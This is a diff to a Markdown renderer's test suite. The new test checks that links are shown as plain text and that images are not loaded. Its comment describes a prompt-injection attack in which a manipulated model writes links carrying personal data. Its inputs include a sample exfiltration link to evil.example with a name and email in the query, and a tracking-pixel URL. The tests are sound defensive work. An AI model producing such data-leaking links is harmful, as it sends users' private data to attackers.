@@ -19,7 +19,7 @@ render = MarkdownRenderer().render
         ("```python\nprint(1)\n```", '<pre tabindex="0"><code class="language-python">print(1)'),
         ("| a |\n|---|\n| 1 |", '<table tabindex="0">'),
         ("**fed** og *kursiv*", "<strong>fed</strong> og <em>kursiv</em>"),
-        ("[KK](https://www.kk.dk)", 'href="https://www.kk.dk"'),
+        ("[KK](https://www.kk.dk)", 'KK <span class="link-address">(https://www.kk.dk)</span>'),
         ("linje et\nlinje to", "linje et<br>"),
     ],
 )
@@ -49,5 +49,11 @@ def test_the_checker_itself_sees_active_content() -> None:
         "<img>", "img[onerror]", "a[href=javascript:x]"]
 
 
-def test_links_do_not_leak_the_opener() -> None:
-    assert 'rel="noopener noreferrer nofollow"' in render("[KK](https://www.kk.dk)")
+def test_links_show_their_address_and_cannot_be_clicked() -> None:
+    # A model talked into writing a link whose address carries restored personal data (prompt injection)
+    # must not get a one-click way to send it away.
+    html = str(render("[Åbn journalen](<https://evil.example/c?n=Jens Hansen&m=jens@example.dk>)"))
+    assert "<a" not in html and "href" not in html
+    assert "Åbn journalen" in html and "https://evil.example/c?n=Jens%20Hansen&amp;m=jens@example.dk" in html
+    assert "<a" not in str(render("<https://www.kk.dk> og https://www.kk.dk"))
+    assert str(render("![kort](https://evil.example/pixel.png)")).startswith("<p>kort <span")
